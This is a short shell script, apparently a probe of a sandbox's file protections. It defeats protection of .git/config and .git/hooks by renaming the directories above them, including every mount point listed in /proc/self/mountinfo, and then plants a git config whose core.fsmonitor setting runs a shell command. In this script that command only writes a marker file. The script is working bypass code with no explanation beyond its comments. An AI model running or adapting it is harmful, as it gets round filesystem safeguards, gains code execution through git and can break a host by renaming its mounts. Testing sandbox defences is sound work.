# Walking around a protected file by renaming a directory above it: first in the
# main checkout, where the protected files are .git/config and .git/hooks, then
# at and above every mount. The payload goes to whatever stands there then.
plant() {
  rm -f "$1/config"
  printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ": > %s.renamed #"\n' "$WM_MARKER" > "$1/config"
}
# rename(2) and nothing else: mv would copy whole trees where that fails.
move() { perl -e 'rename $ARGV[0], $ARGV[1] or die "$ARGV[0]: $!\n"' "$1" "$2"; }
move .git .git.old && cp -r .git.old .git
plant .git
top=$PWD
cd ..
move "$top" "$top.old" && cp -r "$top.old" "$top" && plant "$top/.git"
while read -r _ _ _ _ point _; do
  while [ "$point" != / ]; do
    move "$point" "$point.moved" && mkdir -p "$top/.git" && plant "$top/.git"
    point=$(dirname "$point")
  done
done < /proc/self/mountinfo
exit 0
